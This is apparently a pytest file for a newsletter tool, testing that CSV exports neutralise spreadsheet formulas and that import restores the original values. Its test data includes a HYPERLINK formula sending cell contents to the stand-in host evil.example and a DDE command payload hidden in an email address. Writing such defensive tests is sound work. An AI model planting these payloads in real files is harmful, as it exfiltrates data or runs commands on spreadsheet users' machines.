"""Spreadsheet-safe CSV files (issue 19): every CSV the tool writes quotes a cell a spreadsheet
would run as a formula, and reading the file back (`audience import`, the subscriber list)
gives the original values. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import shutil

import pytest
from typer.testing import CliRunner

from newsletter_mailer.audience.store import Change
from newsletter_mailer.cli import app
from newsletter_mailer.csvcells import TRIGGERS, cell, restore, write_rows
from newsletter_mailer.subscribers import SubscriberList
from tests.helpers.webserver import ROOT
from newsletter_mailer.state import State
from tests.conftest import use_database

runner = CliRunner()
NAMES = ['=HYPERLINK("https://evil.example/?d="&A2,"Open")', "+1 555 0100", "-2+3", "@SUM(A1:A9)",
         "\tTabbed", "'=already quoted", "''@twice", "'plain quote", "Ann Reader", "O'Brien", "=", "'"]
FORMULA_ADDRESS = "=cmd|'/ccalc'!a0@example.org"  # a valid address, and a DDE payload


@pytest.fixture
def nl(tmp_path, monkeypatch, database_url):
    shutil.copy(ROOT / "newsletter.toml", tmp_path / "newsletter.toml")
    use_database(monkeypatch, database_url)
    store = State(tmp_path / "state", database_url).audience()
    store.record([Change(f"reader{i}@example.org", "subscribed", "form", name=n) for i, n in enumerate(NAMES)]
                 + [Change(FORMULA_ADDRESS, "subscribed", "form", name="-Dash")])
    store.close()
    return tmp_path, database_url


def cli(folder, *args: str):
    return runner.invoke(app, [*args, "--config", str(folder / "newsletter.toml"), "--state", str(folder / "state")])


def _no_cell_runs(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for value in row:
            assert not value.startswith(TRIGGERS), value
    return rows


def test_export_quotes_formulas_and_import_gives_them_back(nl, tmp_path_factory):
    folder, url = nl
    out = folder / "export.csv"
    r = cli(folder, "audience", "export", str(out))
    assert r.exit_code == 0, r.output
    rows = _no_cell_runs(out.read_text(encoding="utf-8"))
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["reader0@example.org"] == "'" + NAMES[0] and names["'" + FORMULA_ADDRESS] == "'-Dash"
    assert names["reader8@example.org"] == "Ann Reader" and names["reader7@example.org"] == "'plain quote"
    # back in: a fresh store (SQLite) holds the original values
    other = tmp_path_factory.mktemp("again")
    shutil.copy(folder / "newsletter.toml", other / "newsletter.toml")
    env_url = {"NEWSLETTER_DATABASE_URL": ""} if url else {}
    r = runner.invoke(app, ["audience", "import", str(out), "--config", str(other / "newsletter.toml"),
                            "--state", str(other / "state")], env=env_url)
    assert r.exit_code == 0, r.output
    store = State(other / "state").audience()
    try:
        got = {e.email: e.name for e in store.rows()}
    finally:
        store.close()
    assert {got[f"reader{i}@example.org"] for i in range(len(NAMES))} == {" ".join(n.split()) for n in NAMES}
    assert got[FORMULA_ADDRESS] == "-Dash"
    # and the export still works as the subscriber list of a send
    readers = {s.email: s.name for s in SubscriberList(out)}
    assert readers[FORMULA_ADDRESS] == "-Dash" and readers["reader0@example.org"] == NAMES[0]


def test_audience_list_csv_quotes_formulas(nl):
    folder, _ = nl
    r = cli(folder, "audience", "list", "--format", "csv")
    assert r.exit_code == 0, r.output
    rows = _no_cell_runs(r.output)
    by_email = {row[0]: row for row in rows[1:]}
    assert "'" + FORMULA_ADDRESS in by_email
    name_col = rows[0].index("name")
    assert by_email["reader0@example.org"][name_col] == "'" + NAMES[0]
    assert by_email["reader3@example.org"][name_col] == "'@SUM(A1:A9)"


@pytest.mark.parametrize("value", NAMES + ["", "-", "'-", "''-x", "plain", "a=b", "\rCR"])
def test_restore_inverts_cell(value):
    assert restore(cell(value)) == value
    buf = io.StringIO(newline="")
    write_rows(buf, [[value, 7, -3]])
    [row] = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert [restore(v) for v in row] == [value, "7", "-3"]
